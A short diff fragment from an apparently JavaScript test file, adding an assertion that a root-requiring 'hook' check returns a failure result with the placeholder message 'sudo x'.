+  const seen = withWords([check('hook', failed('bad', 'sudo x'), { root: true })], toldIn(JSON.stringify([hook])) ?? [], 'alice', [])
+  assert.equal(await seen[0]?.run(), failed('bad', 'sudo x'))
 })
 
 test.run()
